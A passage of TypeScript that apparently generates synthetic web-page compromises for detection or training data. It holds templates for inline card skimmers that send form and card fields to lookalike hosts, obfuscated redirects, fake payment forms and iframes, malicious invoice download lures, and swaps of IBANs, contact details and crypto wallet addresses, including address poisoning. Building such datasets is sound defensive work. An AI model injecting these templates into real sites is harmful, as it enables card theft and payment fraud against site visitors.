    return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), bottom(page)]), chance(rng, 0.6) ? banner(rng, html) : `<p class="rewards"><strong>${html}</strong></p>`))
  }),
  deface("fake-storefront-page", (page, rng) => {
    const [tag, add, usp, items] = siteOr(rng, page, shopWords)
    const host = chance(rng, 0.5) ? fakeShopHost(rng) : payHost(rng, page)
    const title = `${brandName(page)} ${pick(rng, ["Outlet", "Store", "Sale", "Shop"])} – ${tag}`
    const cards = items.slice(0, between(rng, 3, items.length)).map((it) => {
      const was = between(rng, 89, 349)
      const now = Math.round(was * pick(rng, [0.15, 0.2, 0.25, 0.3])) + 0.99
      return `<div class="product"><img src="https://${host}/img/${alnum(rng, 8)}.jpg" alt=""><h3>${esc(it)}</h3><p><del>${esc(page.site.locale.money(was))}</del> <strong>${esc(page.site.locale.money(now))}</strong></p><a class="btn" href="https://${host}/checkout?p=${alnum(rng, 6)}">${esc(add)}</a></div>`
    }).join("")
    return { html: `<!DOCTYPE html><html lang="${page.site.locale.lang}"><head><meta charset="utf-8"><title>${esc(title)}</title><meta name="viewport" content="width=device-width, initial-scale=1"></head><body><header><h1>${esc(brandName(page))}</h1><p>${esc(tag)}</p></header><main class="grid">${cards}</main><footer><p>${esc(usp)}</p></footer></body></html>` }
  }, { wholePage: true }),
  deface("checkout-js-redirect", (page, rng) => {
    const host = chance(rng, 0.5) ? payHost(rng, page) : fakeShopHost(rng)
    const to = `https://${host}/${pick(rng, ["", "checkout/", "pay/", "?r=" + bare(page)])}`
    const cond = pick(rng, [
      `/checkout|cart|basket|panier|kasse|carrito|winkelwagen|carrello/i.test(location.pathname)`,
      `/google|bing|yahoo|duckduckgo/.test(document.referrer)`,
      `/Android|iPhone|iPad/i.test(navigator.userAgent)`,
      `document.cookie.indexOf("_v${alnum(rng, 3)}")<0`
    ])
    const code = pick(rng, [
      `if(${cond}){window.location.replace("${to}")}`,
      `setTimeout(function(){if(${cond}){location.href="${to}"}},${between(rng, 0, 4) * 500});`,
      `(function(u){if(${cond})window.location=u})(atob("${Buffer.from(to).toString("base64")}"));`
    ])
    return splices(insert(pick(rng, [head(page), head(page), top(page), bottom(page)]), `<script>${code}</script>`))
  }),
  // ——— where the page sends visitors and their data ———
  deface("skimmer-script-loader", (page, rng) => {
    const host = chance(rng, 0.6) ? libLookalike(rng) : payHost(rng, page)
    const attrs = pick(rng, ["", " async", " defer", ` type="text/javascript"`, ` async crossorigin="anonymous"`])
    return splices(insert(pick(rng, [head(page), head(page), bottom(page)]), `<script${attrs} src="https://${host}${scriptPath(rng)}"></script>`))
  }),
  deface("inline-skimmer", (page, rng) => {
    const host = chance(rng, 0.5) ? libLookalike(rng) : brandLookalike(rng, page.site.brand)
    const k = alnum(rng, 4)
    const code = pick(rng, [
      `(function(){var _${k}=function(){var d={};document.querySelectorAll("input,select").forEach(function(i){if(i.name)d[i.name]=i.value});if(JSON.stringify(d).length>20)navigator.sendBeacon("https://${host}/${pick(rng, ["collect", "gate", "api/v1/log", "img"])}",btoa(JSON.stringify(d)))};document.addEventListener("${pick(rng, ["submit", "click", "change"])}",_${k},true)})();`,
      `var ${k}=new WebSocket("wss://${host}/${alnum(rng, 6)}");document.addEventListener("change",function(e){if(/card|cc|cvv|cvc|exp|number/i.test(e.target.name||e.target.id)){${k}.send(JSON.stringify({f:e.target.name,v:e.target.value,u:location.href}))}});`,
      `window.addEventListener("load",function(){if(/checkout|cart|onepage|payment|kasse|panier/.test(location.pathname)){var s=document.createElement("script");s.src=atob("${Buffer.from(`https://${host}/${pick(rng, ["js/jquery.min.js", "gtag.js", "static/lib.js"])}`).toString("base64")}");document.head.appendChild(s)}});`
    ])
    return splices(insert(pick(rng, [head(page), bottom(page), bottom(page)]), `<script>${code}</script>`))
  }),
  deface("fake-payment-iframe", (page, rng) => {
    const host = payHost(rng, page)
    const [title] = siteOr(rng, page, cardForm)
    const frame = `<div class="${pick(rng, ["payment-box", "checkout-secure", "pay-frame"])}" style="max-width:${between(rng, 380, 620)}px;margin:${between(rng, 8, 30)}px auto"><p><strong>${esc(title)}</strong></p><iframe src="https://${host}/${pick(rng, ["hpp", "pay", "checkout", "form"])}/${alnum(rng, 16)}?m=${bare(page)}" width="100%" height="${between(rng, 320, 520)}" frameborder="0" ${chance(rng, 0.5) ? 'allow="payment"' : 'scrolling="no"'}></iframe></div>`
    return splices(insert(blockSpot(rng, page), frame))
  }),
  deface("fake-card-form", (page, rng) => {
    const host = payHost(rng, page)
    const [title, name, num, exp, cvv, go] = siteOr(rng, page, cardForm)
    const f = `<form class="${pick(rng, ["card-verify", "payment-form", "secure-pay"])}" action="https://${host}/${pick(rng, ["p.php", "submit", "api/pay", "3ds/verify"])}" method="post" style="border:1px solid #ccc;padding:${between(rng, 10, 24)}px;max-width:${between(rng, 320, 480)}px"><h3>${esc(title)}</h3><label>${esc(name)} <input name="${pick(rng, ["holder", "ccname", "name"])}"></label><label>${esc(num)} <input name="${pick(rng, ["cc", "cardnumber", "pan"])}" inputmode="numeric" autocomplete="cc-number"></label><label>${esc(exp)} <input name="exp" autocomplete="cc-exp"></label><label>${esc(cvv)} <input name="${pick(rng, ["cvv", "cvc", "csc"])}" autocomplete="cc-csc"></label><button type="submit">${esc(go)}</button></form>`
    return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), bottom(page)]), f))
  }),
  deface("form-action-hijack", (page, rng) => {
    const fs = forms(page).filter((f) => usable(page, f))
    const host = chance(rng, 0.5) ? brandLookalike(rng, page.site.brand) : randomDomain(rng)
    const path = `/${pick(rng, ["submit", "collect", "post.php", "gate.php", "newsletter", "api/subscribe"])}`
    const chosen = fs.slice(0, chance(rng, 0.5) ? fs.length : 1)
    if (chosen.length === 0) return splices(insert(bottom(page), `<form action="https://${host}${path}" method="post"><input type="email" name="email"><button>OK</button></form>`))
    return splices(...chosen.map((f) => setAttr(page, f, "action", `https://${host}${path}`)))
  }),
  deface("payment-link-swap", (page, rng) => {
    const host = payHost(rng, page)
    const as = shown(page, "a", (e) => {
      if (!usable(page, e)) return false
      const u = resolve(page, e.attribs.href ?? "")
      return u !== null && u.hostname.endsWith(page.site.domain) && /cart|checkout|basket|order|pay|shop|kasse|panier|winkel|carrello|carrito|gift|donat|buy|subscri/i.test(u.pathname + u.search)
    })
    const target = () => `https://${host}/${pick(rng, ["checkout", "pay", "c/pay", "session"])}/${alnum(rng, between(rng, 10, 24))}`
    if (as.length === 0) {
      const label = pick(rng, siteOr(rng, page, payNow))
      return splices(insert(blockSpot(rng, page), `<p><a class="button" href="${target()}" style="background:#2e7d32;color:#fff;padding:10px 18px;border-radius:4px">${esc(label)}</a></p>`))
    }
    return splices(...as.slice(0, between(rng, 1, 6)).map((a) => setAttr(page, a, "href", target())))
  }),
  deface("bank-app-qr", (page, rng) => {
    const ib = muleIban(rng, page).replace(/\s/g, "")
    const payload = `BCD\n002\n1\nSCT\n\n${pick(rng, people)}\n${ib}\nEUR${between(rng, 20, 400)}.00\n\n${orderNo(rng)}`
    const src = chance(rng, 0.5)
      ? `https://${pick(rng, ["api.qrserver.com/v1/create-qr-code/", "quickchart.io/qr", "chart.googleapis.com/chart"])}?${pick(rng, ["data", "text", "chl"])}=${encodeURIComponent(payload)}&size=${pick(rng, ["200x200", "240x240", "300x300"])}`
      : `https://${randomDomain(rng)}/qr/${hex(rng, 12)}.png`
    const label = pick(rng, siteOr(rng, page, scanQr))
    return splices(insert(pick(rng, [slotAt(page.spots, "middle"), bottom(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["qr-pay", "instant-pay", "bank-qr"])}"><p>${esc(label)}</p><img src="${esc(src)}" width="${between(rng, 160, 300)}" alt="QR"></div>`))
  }),
  deface("meta-refresh-fake-shop", (page, rng) => {
    const host = chance(rng, 0.6) ? fakeShopHost(rng) : brandLookalike(rng, page.site.brand)
    return splices(insert(head(page), `<meta http-equiv="refresh" content="${between(rng, 0, 5)};url=https://${host}/${pick(rng, ["", "sale/", "?src=" + bare(page), "outlet/" + alnum(rng, 5)])}">`))
  }),
  deface("invoice-download-lure", (page, rng) => {
    const order = orderNo(rng).replace(/[^A-Za-z0-9-]/g, "")
    const label = fill(pick(rng, siteOr(rng, page, invoice)), { order })
    const host = chance(rng, 0.5) ? randomDomain(rng) : pick(rng, ["cdn.discordapp.com/attachments", "dropbox.com/s", "bitbucket.org/" + alnum(rng, 6) + "/downloads"])
    const file = `${pick(rng, ["invoice", "Rechnung", "facture", "factura", "order", "fattura"])}_${order}.${pick(rng, ["zip", "exe", "msi", "pdf.exe", "iso", "js", "lnk.zip"])}`
    return splices(insert(blockSpot(rng, page), `<p class="download"><a href="https://${host}/${alnum(rng, 8)}/${file}" download>${esc(label)}</a></p>`))
  }),

  // ——— identifiers visitors copy or trust ———
  deface("iban-diversion", (page, rng) => {
    const name = pick(rng, people)
    const ib = muleIban(rng, page)
    const bank = page.ids.bank
    if (bank !== null && bank.kind === "iban" && occ(page, bank.value).length > 0) {
      return splices(...everywhere(page, [[bank.value, ib]]))
    }
    const html = esc(fill(pick(rng, siteOr(rng, page, newAccount)), { iban: ib, name }))
    return splices(chance(rng, 0.5) ? pageLines(page, rng, `<strong>${html}</strong>`) : insert(top(page), banner(rng, html)))
  }),
  deface("service-phone-swap", (page, rng) => {
    const p = page.ids.phone
    const n = swapPhone(page.site.locale, p, rng)
    const s = everywhere(page, [[p.tel, n.tel], [p.national, n.national], [p.intl, n.intl]])
    return splices(...(s.length > 0 ? s : [pageLines(page, rng, `${esc(page.site.words.phone)}: ${n.national}`)]))
  }),
  deface("support-email-swap", (page, rng) => {
    const [local] = page.ids.email.split("@")
    const to = pick(rng, [
      () => `${local}@${brandLookalike(rng, page.site.brand)}`,
      () => `${bare(page)}.${pick(rng, ["support", "service", "orders", "billing"])}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "hotmail.com"])}`,
      () => `${local}@${page.site.domain.replace(/\.([a-z.]+)$/, `-${pick(rng, ["service", "help", "shop", "eu"])}.$1`)}`
    ])()
    const s = everywhere(page, [[page.ids.email, to]])
    return splices(...(s.length > 0 ? s : [pageLines(page, rng, `${esc(page.site.words.email)}: ${esc(to)}`)]))
  }),
  deface("chat-handle-swap", (page, rng) => {
    const tg = page.ids.social.find((h) => h.href !== null && h.href.includes("t.me/"))
    const handle = lookalikeName(rng, page)
    if (tg !== undefined && tg.href !== null && occ(page, tg.href).length > 0 && chance(rng, 0.6)) return splices(...everywhere(page, [[tg.href, `https://t.me/${handle}`]]))
    const phone = makePhone(pick(rng, locales), between(rng, 0, 5), rng)
    const wa = chance(rng, 0.6)
    const link = wa ? `<a href="https://wa.me/${phone.tel.slice(1)}">${phone.intl}</a>` : `<a href="https://t.me/${handle}">@${handle}</a>`
    return splices(pageLines(page, rng, fill(esc(siteOr(rng, page, chatLine)[wa ? 0 : 1]), { link })))
  }),
  deface("payment-handle-swap", (page, rng) => {
    const pay = page.ids.pay
    const h = lookalikeName(rng, page)
    if (pay !== null && pay.href !== null) {
      const u = new URL(pay.href)
      const newHref = `${u.origin}${u.pathname.replace(/[^/$@]+\/?$/, h)}`
      const newShown = pay.shown.replace(/[A-Za-z0-9_]+$/, h)
      const s = everywhere(page, [[pay.href, newHref], [pay.shown, newShown]])
      if (s.length > 0) return splices(...s)
    }
    if (pay !== null && pay.href === null) {
      const s = everywhere(page, [[pay.shown, `Chave PIX: ${digits(rng, 3)}.${digits(rng, 3)}.${digits(rng, 3)}-${digits(rng, 2)}`]])
      if (s.length > 0) return splices(...s)
    }
    return splices(pageLines(page, rng, `${esc(page.site.words.payWith)} <a href="https://www.paypal.me/${h}">paypal.me/${h}</a>`))
  }),
  deface("wallet-address-swap", (page, rng) => {
    const w = page.ids.wallet
    if (w !== null && occ(page, w.address).length > 0) {
      const n = makeWallet(rng, w.coin)
      // address poisoning: same first and last characters, new middle
      const poisoned = w.address.slice(0, 4) + n.address.slice(4, -4) + w.address.slice(-4)
      return splices(...everywhere(page, [[w.address, chance(rng, 0.5) ? poisoned : n.address]]))
    }
    const n = makeWallet(rng, pick(rng, ["BTC", "USDT (TRC20)", "ETH"] as const))
    return splices(pageLines(page, rng, `${esc(fill(siteOr(rng, page, cryptoLine), { coin: n.coin }))} <code>${n.address}</code>`))
  }),
  deface("social-profile-swap", (page, rng) => {
    const hs = page.ids.social.filter((h) => h.href !== null && occ(page, h.href).length > 0)
    if (hs.length === 0) return splices(pageLines(page, rng, `Instagram: <a href="https://www.instagram.com/${lookalikeName(rng, page)}/">@${lookalikeName(rng, page)}</a>`))
    const chosen = hs.slice(0, between(rng, 1, hs.length))
    return splices(...everywhere(page, chosen.map((h) => {
      const u = new URL(h.href!)
      const last = u.pathname.replace(/\/$/, "").split("/").pop() ?? ""
      const nu = last.length > 0 ? h.href!.replace(last, lookalikeName(rng, page)) : `${h.href}${lookalikeName(rng, page)}`
      return [h.href!, nu] as const
    })))
  }),
  deface("price-hijack-bank-only", (page, rng) => {
    const ps = priceRaw(page)
    const f = pick(rng, [0.3, 0.4, 0.5])
    const ib = muleIban(rng, page)
    const html = esc(fill(pick(rng, siteOr(rng, page, newAccount)), { iban: ib, name: pick(rng, people) }))
    return splices(...ps.slice(0, between(rng, 1, 20)).map((r) => replace(r, esc(rescale(page.html.slice(r.start, r.end), f)))), insert(top(page), banner(rng, html)))
  }),
  deface("checkout-domain-typosquat-links", (page, rng) => {
    const look = brandLookalike(rng, page.site.brand)
    const own = shown(page, "a", (e) => {
      const h = (e.attribs.href ?? "").trim()
      return usable(page, e) && /^https?:\/\//i.test(h) && h.toLowerCase().includes(page.site.domain)
    })
    if (own.length === 0) {
      const label = pick(rng, siteOr(rng, page, payNow))
      return splices(insert(blockSpot(rng, page), `<p><a href="https://${look}/checkout">${esc(label)}</a></p>`))
    }
    return splices(...own.slice(0, between(rng, 2, 30)).map((a) => {
      const h = (a.attribs.href ?? "").trim()
      return setAttr(page, a, "href", h.replace(new RegExp(page.site.domain.replace(/\./g, "\\."), "i"), look))
    }))
  })
]

function cap1(s: string) {
  return s.charAt(0).toUpperCase() + s.slice(1)
}


